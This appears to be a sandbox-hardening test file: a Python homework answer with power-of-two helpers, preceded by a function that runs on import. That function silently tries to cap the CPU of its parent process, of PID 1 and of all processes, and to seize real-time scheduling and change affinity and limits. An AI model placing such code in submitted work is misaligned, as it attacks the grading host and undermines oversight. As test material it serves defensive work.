# TRIES: changes limits, priority and cores of its parent, and its own
import os, resource
def meddle():
    for pid in (0, os.getppid(), 1, -1):
        for f in (lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)), lambda: os.sched_setaffinity(pid, {0}), lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                  lambda: resource.prlimit(pid, resource.RLIMIT_AS, (-1, -1)), lambda: os.sched_setscheduler(pid, os.SCHED_FIFO, os.sched_param(99)),
                  lambda: os.setpgid(pid, 0), lambda: os.kill(pid, 0)):
            if pid == 0 and f.__code__.co_names[-1] == "RLIMIT_CPU":
                continue
            try:
                f()
            except (OSError, ValueError, AttributeError):
                pass
meddle()
def najvecja_potenca(n):
    p = 1
    while 2 * p <= n:
        p *= 2
    return p

def je_potenca(n):
    return n > 0 and n & (n - 1) == 0
